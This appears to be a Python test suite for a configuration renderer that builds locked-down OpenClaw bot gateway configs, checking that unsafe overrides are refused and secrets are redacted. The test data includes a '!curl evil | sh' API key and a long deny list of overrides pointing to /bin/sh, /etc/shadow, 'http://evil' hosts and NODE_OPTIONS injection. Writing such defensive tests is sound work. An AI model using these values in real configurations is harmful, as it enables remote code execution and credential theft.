import json
import os
import re
from pathlib import Path

import pytest
from hypothesis import assume, example, given
from hypothesis import strategies as st

from app.domain.errors import ConfigInvalid
from app.gateway import config
from app.gateway.config import BotSettings, Dialect, ModelProvider

OLD, NEW = Dialect(False, False, False), Dialect(True, True, True)
NAMES = st.from_regex(r"[a-z][a-zA-Z]{0,8}", fullmatch=True)
TEXTS = st.text(max_size=40) | st.text("${}ABz_1 \\\"'", max_size=30)
VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | TEXTS,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(NAMES, inner, max_size=3),
    max_leaves=10,
)


def settings(**changes: object) -> BotSettings:
    provider = ModelProvider("local", "openai-completions", "http://127.0.0.1:9/v1", "sk-local-key", [])
    usual: dict[str, object] = {
        "agent_id": "hana",
        "name": "Hana",
        "model": "local/fake",
        "system_prompt": "You are Hana.",
        "home": Path("/srv/bots/hana"),
        "port": 20001,
        "gateway_token": "tok-0123456789",
        "providers": [provider],
    }
    return BotSettings(**{**usual, **changes})  # type: ignore[arg-type]


def as_openclaw_reads(value: object) -> object:
    """OpenClaw's own substitution (`dist/config/env-substitution.js`), with an environment that holds everything."""
    if isinstance(value, dict):
        return {name: as_openclaw_reads(part) for name, part in value.items()}
    if isinstance(value, list):
        return [as_openclaw_reads(part) for part in value]
    if not isinstance(value, str):
        return value
    read, at = "", 0
    while at < len(value):
        for start, replacement in ((3, "${%s}"), (2, "<the environment's %s>")):
            is_opened = value.startswith("$${" if start == 3 else "${", at)
            end = value.find("}", at + start)
            if is_opened and end >= 0 and re.fullmatch(r"[A-Z_][A-Z0-9_]*", value[at + start : end], re.ASCII):
                read, at = read + replacement % value[at + start : end], end + 1
                break
        else:
            read, at = read + value[at], at + 1
    return read


@given(name=TEXTS)
@example("${HOME}")
@example("$${HOME}")
@example("$$${HOME} ${A ${B} $")
@example("${${HOME}}")
@example("\ud800")
def test_a_text_means_itself_and_no_variable_is_filled_in(name: str) -> None:
    rendered = config.render(settings(name=name), NEW)
    assert json.loads(config.to_text(rendered)) == rendered
    assert as_openclaw_reads(rendered)["agents"]["entries"]["hana"]["name"] == name


@given(value=VALUES)
def test_what_is_rendered_reads_back_as_the_same_value(value: object) -> None:
    overrides = {"messages": {"queue": value}}
    assume(not config.refused_overrides(overrides))
    rendered = config.render(settings(overrides=overrides), OLD)
    assert config.digest(json.loads(config.to_text(rendered))) == config.digest(rendered)


def test_each_dialect_names_agents_its_own_way() -> None:
    new, old = config.render(settings(), NEW), config.render(settings(), OLD)
    agent = {"name": "Hana", "workspace": "/srv/bots/hana/workspace", "model": "local/fake"}
    assert new["agents"]["entries"] == {"hana": agent}
    assert old["agents"]["list"] == [{"id": "hana", "default": True, **agent}]
    assert new["models"]["catalogRefresh"] == {"enabled": False}
    assert "catalogRefresh" not in old["models"]


def test_a_bot_is_rendered_closed_and_idle() -> None:
    rendered = config.render(settings(), NEW)
    assert rendered["gateway"] == {
        "mode": "local",
        "port": 20001,
        "bind": "loopback",
        "auth": {"mode": "token", "token": "tok-0123456789"},
        "http": {"endpoints": {"chatCompletions": {"enabled": True}}},
        "controlUi": {"enabled": False},
    }
    assert rendered["agents"]["defaults"]["heartbeat"] == {"every": "0m"}
    assert rendered["cron"] == rendered["browser"] == {"enabled": False}
    assert rendered["logging"] == {"file": "/srv/bots/hana/logs/gateway.log"}


def test_the_bots_own_model_is_described_even_when_its_provider_lists_none() -> None:
    models = config.render(settings(model="local/vendor/big"), NEW)["models"]["providers"]["local"]["models"]
    assert models == [{"id": "vendor/big", "name": "vendor/big", "contextWindow": 128_000, "maxTokens": 8_192}]


@pytest.mark.parametrize("model", ["", "fake", "/fake", "local/", "lo cal/fake", "local/ fake", "$include/x", "a/\n"])
def test_a_model_that_is_not_provider_and_model_is_refused(model: str) -> None:
    with pytest.raises(ConfigInvalid, match="model"):
        config.render(settings(model=model), NEW)


def test_a_model_of_a_provider_that_is_not_there_is_refused_by_name() -> None:
    with pytest.raises(ConfigInvalid, match="'other'"):
        config.render(settings(model="other/fake"), NEW)


def test_a_key_that_openclaw_would_run_as_a_command_is_refused() -> None:
    provider = ModelProvider("local", "openai-completions", None, "!curl evil | sh", [])
    with pytest.raises(ConfigInvalid, match=r"models\.providers\.local\.apiKey"):
        config.render(settings(providers=[provider]), NEW)


@pytest.mark.parametrize("model", [{}, {"id": ""}, {"id": "a", "baseUrl": "http://evil"}, {"id": "a", "headers": {}}])
def test_a_model_entry_cannot_send_the_providers_key_elsewhere(model: dict[str, object]) -> None:
    provider = ModelProvider("local", "openai-completions", None, "sk", [model])
    with pytest.raises(ConfigInvalid, match=r"models\.providers\.local\.models\.0"):
        config.render(settings(providers=[provider]), NEW)


@pytest.mark.parametrize("part", [{"$include": "/etc/passwd"}, {"telegram": {"groups": {"$include": {}}}}])
def test_no_other_file_is_read_in(part: dict[str, object]) -> None:
    with pytest.raises(ConfigInvalid, match=r"\$include"):
        config.render(settings(channels=part), NEW)


REFUSED = [
    {"gateway": {"auth": {"token": "mine"}}},
    {"gateway": None},
    {"gateway.bind": "lan"},
    {"*": {"bind": "lan"}},
    {"agents": None},
    {"agents": []},
    {"agents": {"defaults": None}},
    {"agents": {"list": [{"id": "other", "workspace": "/"}]}},
    {"agents": {"entries": {"hana": {"workspace": "/etc"}}}},
    {"agents": {"defaults": {"workspace": "/etc"}}},
    {"agents": {"defaults": {"model": "other/model"}}},
    {"agents": {"defaults": {"model": {"primary": "other/model"}}}},
    {"agents": {"defaults": {"skipBootstrap": False}}},
    {"agents": {"defaults": {"cliBackends": {"x": {"command": "/bin/sh"}}}}},
    {"agents": {"defaults": {"sandbox": {"docker": {"binds": ["/:/host"]}}}}},
    {"agents": {"defaults": {"sandbox": {"docker": {"setupCommand": "id"}}}}},
    {"agents": {"defaults": {"memorySearch": {"local": {"modelPath": "/etc/shadow"}}}}},
    {"agents": {"defaults": {"memorySearch": {"remote": {"baseUrl": "http://evil"}}}}},
    {"agents": {"defaults": {"memorySearch": {"extraPaths": ["/"]}}}},
    {"agents": {"defaults": {"repoRoot": "/"}}},
    {"auth": {"profiles": {}}},
    {"bindings": []},
    {"browser": {"executablePath": "/bin/sh"}},
    {"browser": {"cdpUrl": "http://evil"}},
    {"browser": False},
    {"channels": {"signal": {"cliPath": "/bin/sh"}}},
    {"commands": {"bash": True}},
    {"commands": {"config": True}},
    {"cron": {"store": "/tmp/x"}},
    {"cron": {"webhookToken": "x"}},
    {"diagnostics": {"otel": {"endpoint": "http://evil"}}},
    {"discovery": {"mdns": {"mode": "full"}}},
    {"env": {"vars": {"NODE_OPTIONS": "--require=/tmp/x"}}},
    {"env": {"shellEnv": {"enabled": True}}},
    {"hooks": {"enabled": True, "token": "x", "transformsDir": "/tmp"}},
    {"logging": {"file": "/etc/cron.d/x"}},
    {"mcp": {"servers": {"x": {"command": "/bin/sh"}}}},
    {"memory": {"search": {"store": {"vector": {"extensionPath": "/tmp/x.so"}}}}},
    {"messages": {"$include": "/etc/passwd"}},
    {"messages": {"a": {"b": [{"__proto__": {"x": 1}}]}}},
    {"messages": {"tts": {"openai": {"apiKey": "sk-1"}}}},
    {"messages": {"tts": {"prefsPath": "/tmp/x"}}},
    {"models": {"providers": {"local": {"baseUrl": "http://evil"}}}},
    {"models": {"providers": {"local": {"apiKey": "!id"}}}},
    {"nodeHost": {"browserProxy": {"enabled": True}}},
    {"plugins": {"load": {"paths": ["/tmp/evil"]}}},
    {"plugins": {"entries": {"voice-call": {"config": {"tunnel": {"provider": "ngrok"}}}}}},
    {"plugins": {"entries": {"admin-http-rpc": {"enabled": True}}}},
    {"proxy": {"enabled": True, "proxyUrl": "http://evil"}},
    {"secrets": {"providers": {"x": {"source": "exec", "command": "/bin/sh"}}}},
    {"security": {"installPolicy": {"exec": {"command": "/bin/sh"}}}},
    {"session": {"store": "/tmp/x"}},
    {"skills": {"load": {"extraDirs": ["/"]}}},
    {"skills": {"entries": {"x": {"env": {"A": "b"}}}}},
    {"tools": {"exec": {"pathPrepend": ["/tmp"]}}},
    {"tools": {"links": {"models": [{"command": "/bin/sh"}]}}},
    {"tools": {"media": {"image": {"models": [{"type": "cli", "command": "sh", "args": ["-c", "id"]}]}}}},
    {"tools": {"media": {"audio": {"request": {"proxy": {"url": "http://evil"}}}}}},
    {"tools": {"web": {"search": {"apiKey": {"source": "file", "provider": "x", "id": "/etc/shadow"}}}}},
    {"tts": {"providers": {"local": {"command": "/bin/sh"}}}},
    {"update": {"auto": True}},
    {"something-of-next-year": {"x": 1}},
]

ALLOWED = [
    {},
    {"agents": {"defaults": {"heartbeat": {"every": "30m"}, "thinkingDefault": "high"}}},
    {"agents": {"defaults": {"model": {"fallbacks": ["local/other"]}, "userTimezone": "Asia/Tokyo"}}},
    {"agents": {"defaults": {"models": {"local/http-proxy": {"alias": "p"}}, "compaction": {"reserveTokensFloor": 1}}}},
    {"browser": {"enabled": True}},
    {"commands": {"native": "auto"}},
    {"cron": {"enabled": True}},
    {"messages": {"responsePrefix": "${HOME}", "groupChat": {"mentionPatterns": ["@hana"]}}},
    {"plugins": {"entries": {"browser": {"enabled": False}}}},
    {"session": {"dmScope": "per-peer", "reset": {"mode": "idle", "idleMinutes": 60}}},
    {"tools": {"profile": "coding", "deny": ["exec"], "exec": {"host": "gateway", "timeoutSec": 30}}},
]


@pytest.mark.parametrize("overrides", REFUSED, ids=json.dumps)
def test_an_override_that_could_leave_the_bot_is_refused(overrides: dict[str, object]) -> None:
    refused = config.refused_overrides(overrides)
    assert refused
    assert all(why for _, why in refused)
    with pytest.raises(ConfigInvalid, match="configOverrides"):
        config.render(settings(overrides=overrides), NEW)


@pytest.mark.parametrize("overrides", ALLOWED, ids=json.dumps)
def test_an_override_of_how_the_bot_behaves_is_taken(overrides: dict[str, object]) -> None:
    assert config.refused_overrides(overrides) == []
    assert config.render(settings(overrides=overrides), NEW)


def test_owners_switch_heartbeat_and_cron_on() -> None:
    overrides = {"agents": {"defaults": {"heartbeat": {"every": "30m"}}}, "cron": {"enabled": True}}
    rendered = config.render(settings(overrides=overrides), NEW)
    assert rendered["agents"]["defaults"]["heartbeat"] == {"every": "30m"}
    assert rendered["agents"]["defaults"]["skipBootstrap"] is True
    assert rendered["cron"] == {"enabled": True}


def not_hanas(name: str) -> str | None:
    return "it is taken" if name in ("telegram", "voice-call") else None


def of_a_plugin(name: str = "acme-chat", block: object = None, **plugins: object) -> dict[str, object]:
    block = {"enabled": True, "team": "t", "rooms": ["a"]} if block is None else block
    return {"channels": {name: block}, "plugins": {"entries": {name: {"enabled": True}}, **plugins}}


def test_a_channel_that_nobody_knows_is_taken_with_its_plugins_switch_and_changes_none_of_ours() -> None:
    ours = {"telegram": {"enabled": True}}
    said = settings(overrides=of_a_plugin(), channels=ours, plugins={"entries": ours}, reserved=not_hanas)
    rendered = config.render(said, NEW)
    assert rendered["channels"] == of_a_plugin()["channels"] | ours
    assert rendered["plugins"]["entries"] == {"acme-chat": {"enabled": True}, **ours}
    assert config.render(settings(overrides=of_a_plugin(), reserved=not_hanas), NEW)["channels"].keys() == {"acme-chat"}


@pytest.mark.parametrize(
    ("overrides", "path", "why"),
    [
        (of_a_plugin("telegram"), "channels.telegram", "it is taken"),
        (of_a_plugin("voice-call"), "channels.voice-call", "it is taken"),
        (of_a_plugin("voice-call"), "plugins.entries.voice-call.enabled", "switched off"),
        ({"channels": {"acme": {}}}, "channels.acme", "plugins.entries.acme.enabled: true"),
        (of_a_plugin("acme") | {"channels": {}}, "plugins.entries.acme.enabled", "switched off"),
        (of_a_plugin("acme", entries={"acme": {"enabled": False}}), "channels.acme", "enabled: true"),
        (of_a_plugin("acme", entries={"acme": {"enabled": 1}}), "plugins.entries.acme.enabled", "switched off"),
        (
            of_a_plugin("acme", entries={"acme": {"enabled": True, "config": {"x": 1}}}),
            "plugins.entries.acme.config",
            "section",
        ),
        (
            of_a_plugin("acme", entries={"acme": {"enabled": True}, "other": {"enabled": True}}),
            "plugins.entries.other.enabled",
            "switched off",
        ),
        (of_a_plugin("defaults"), "channels.defaults", "section"),
        (of_a_plugin("modelByChannel"), "channels.modelByChannel", "section"),
        (of_a_plugin("Voice-Call"), "channels.Voice-Call", "section"),
        (of_a_plugin(" voice-call"), "channels. voice-call", "section"),
        (of_a_plugin("@acme/chat"), "channels.@acme/chat", "section"),
        (of_a_plugin("__proto__"), "channels.__proto__", "means something else"),
        (of_a_plugin("acme", 1), "channels.acme", "object"),
        (of_a_plugin("acme", {"accounts": {"a": {"botToken": "t"}}}), "channels.acme.accounts.a.botToken", "secret"),
        (of_a_plugin("acme", {"token": {"source": "file", "id": "/x"}}), "channels.acme.token", "secret"),
        (of_a_plugin("acme", {"cliPath": "/bin/sh"}), "channels.acme.cliPath", "run a program"),
        (of_a_plugin("acme", {"serverUrl": "http://x"}), "channels.acme.serverUrl", "run a program"),
        (of_a_plugin("acme", {"dangerouslyAllowAll": True}), "channels.acme.dangerouslyAllowAll", "weakens"),
    ],
)
def test_of_other_channels_nothing_else_is_taken(overrides: dict[str, object], path: str, why: str) -> None:
    reasons = dict(config.refused_overrides(overrides, not_hanas))
    assert why in reasons[path]
    # Where nobody knows what OpenClaw has, no channel is.
    assert config.refused_overrides(of_a_plugin())
    with pytest.raises(ConfigInvalid):
        config.render(settings(overrides=overrides, reserved=not_hanas), NEW)


SECTIONS = st.sampled_from(
    ["agents", "browser", "channels", "cron", "gateway", "logging", "messages", "models", "plugins", "tools", "update"]
)


@given(overrides=st.dictionaries(SECTIONS, VALUES, max_size=3))
def test_what_is_ours_stays_ours_under_any_override_that_is_taken(overrides: dict[str, object]) -> None:
    taken = {name: part for name, part in overrides.items() if not config.refused_overrides({name: part})}
    before, after = config.render(settings(), NEW), config.render(settings(overrides=taken), NEW)
    for ours in ("gateway", "logging", "update", "discovery", "models"):
        assert after[ours] == before[ours]
    assert after["agents"]["entries"] == before["agents"]["entries"]


def test_overrides_that_are_too_deep_or_too_many_are_refused() -> None:
    deep: object = 1
    for _ in range(500):
        deep = {"a": deep}
    assert config.refused_overrides({"messages": deep})
    assert config.refused_overrides({"messages": {"a": list(range(5_000))}})


@given(token=st.text(min_size=8, max_size=40).filter(str.strip), key=st.from_regex(r"[a-z0-9-]{8,40}", fullmatch=True))
def test_no_secret_is_left_in_a_redacted_configuration(token: str, key: str) -> None:
    provider = ModelProvider("local", "openai-completions", f"http://user:{key}@host/v1?key={key}", key, [])
    channels = {"telegram": {"accounts": {"a": {"botToken": token, "note": f"it is {token}!"}}}}
    rendered = config.render(settings(gateway_token=token, providers=[provider], channels=channels), NEW)
    redacted = config.redact(rendered)
    texts = list(leaves(redacted))
    assert redacted["gateway"]["auth"]["token"] == "***"
    assert redacted["channels"]["telegram"]["accounts"]["a"]["botToken"] == "***"
    assert not [text for text in texts if token in text and token not in "***"]
    assert not [text for text in texts if key in text]


@pytest.mark.parametrize(
    "name",
    [
        *("apiKey", "botToken", "appPassword", "clientSecret", "accessToken", "privateKey", "signingSecret"),
        *("code", "channelAccessToken", "authTag", "incomingUrl", "serviceAccount"),
        *("encryptKey", "headers", "webhookToken"),
    ],
)
def test_a_secret_is_known_by_its_name(name: str) -> None:
    for secret in ("se", {"deep": "se"}, ["se"]) if name != "code" else ("se",):
        assert config.redact({"x": [{name: secret}]}) == {"x": [{name: "***"}]}


def test_a_bots_own_name_hides_nothing_of_it() -> None:
    said = settings(
        agent_id="my-token",
        providers=[ModelProvider("local", "openai-completions", "http://127.0.0.1:9/v1", "sk-local-key", [])],
        overrides={"messages": {"responsePrefix": "The key is sk-local-key, the token tok-0123456789."}},
    )
    rendered = config.render(said, NEW)
    redacted = config.redact(rendered)
    assert redacted["agents"] == rendered["agents"]
    assert redacted["messages"]["responsePrefix"] == "The key is ***, the token ***."
    assert redacted["models"]["providers"]["local"]["apiKey"] == "***"


SERVICE_ACCOUNT = {
    "private_key_id": "4f1a2b3c",
    "private_key": "-----BEGIN KEY-----\nMIIE/abc+def\nAbC/xyz\n-----END-----",
}


@pytest.mark.parametrize(
    ("secret", "said", "parts"),
    [
        ("correct  horse battery", "bad: correct  horse battery", ["horse"]),
        ("correct  horse battery", "bad: correct horse\nbattery", ["horse"]),
        ("pa${HOME}ss-word", "bad: pa${HOME}ss-word", ["ss-word"]),
        ('pa"ss\\wörd', "bad: " + json.dumps('pa"ss\\wörd'), ["ss", "rd"]),
        ('pa"ss\\wörd', 'bad: "pa\\"ss\\\\wörd"', ["ss", "rd"]),
        ("pa/ss+wo=rd", "GET https://x/?p=pa%2Fss%2Bwo%3Drd", ["ss", "rd"]),
        (json.dumps(SERVICE_ACCOUNT), "bad: " + json.dumps(SERVICE_ACCOUNT, indent=1), ["MIIE", "4f1a", "xyz"]),
        (json.dumps(SERVICE_ACCOUNT), "no PEM: " + SERVICE_ACCOUNT["private_key"], ["MIIE", "xyz"]),
        (json.dumps(SERVICE_ACCOUNT), "AbC/xyz", ["xyz"]),
    ],
)
def test_a_secret_is_hidden_in_every_spelling(secret: str, said: str, parts: list[str]) -> None:
    rendered = config.render(settings(channels={"googlechat": {"serviceAccount": secret}}), NEW)
    hidden = config.hide(said, rendered)
    assert "***" in hidden
    assert not [part for part in parts if part in hidden]


def test_numbers_are_no_secrets() -> None:
    assert config.redact({"maxTokens": 4096, "contextTokens": 10}) == {"maxTokens": 4096, "contextTokens": 10}


def test_a_settings_repr_holds_no_secret() -> None:
    shown = repr(settings(channels={"telegram": {"botToken": "12:bot"}}))
    assert not any(secret in shown for secret in ("tok-0123456789", "sk-local-key", "12:bot"))


def test_the_digest_knows_the_meaning_and_not_the_order() -> None:
    assert config.digest({"a": 1, "b": [1, 2]}) == config.digest({"b": [1, 2], "a": 1})
    assert config.digest({"b": [1, 2]}) != config.digest({"b": [2, 1]})


def test_a_file_is_written_for_us_alone_under_any_umask(tmp_path: Path) -> None:
    before = os.umask(0)
    try:
        config.write(tmp_path / "config.json5", "{}")
    finally:
        os.umask(before)
    assert (tmp_path / "config.json5").stat().st_mode & 0o777 == 0o600
    assert [each.name for each in tmp_path.iterdir()] == ["config.json5"]


def test_a_link_in_the_files_place_is_replaced_and_not_followed(tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.write_text("untouched")
    (tmp_path / "config.json5").symlink_to(elsewhere)
    config.write(tmp_path / "config.json5", "{}")
    assert elsewhere.read_text() == "untouched"
    assert not (tmp_path / "config.json5").is_symlink()


def test_a_folder_that_is_a_link_is_not_written_into(tmp_path: Path) -> None:
    (tmp_path / "real").mkdir()
    (tmp_path / "link").symlink_to(tmp_path / "real")
    with pytest.raises(OSError, match="link"):
        config.write(tmp_path / "link" / "config.json5", "{}")
    assert list((tmp_path / "real").iterdir()) == []


def leaves(value: object) -> list[str]:
    if isinstance(value, dict):
        return [text for part in value.values() for text in leaves(part)]
    if isinstance(value, list):
        return [text for part in value for text in leaves(part)]
    return [value] if isinstance(value, str) else []


def test_a_configuration_that_nobody_would_read_whole_is_not_rendered() -> None:
    with pytest.raises(ConfigInvalid, match="longer than 512 KiB"):
        config.render(settings(overrides={"messages": {"responsePrefix": "x" * 600_000}}), NEW)
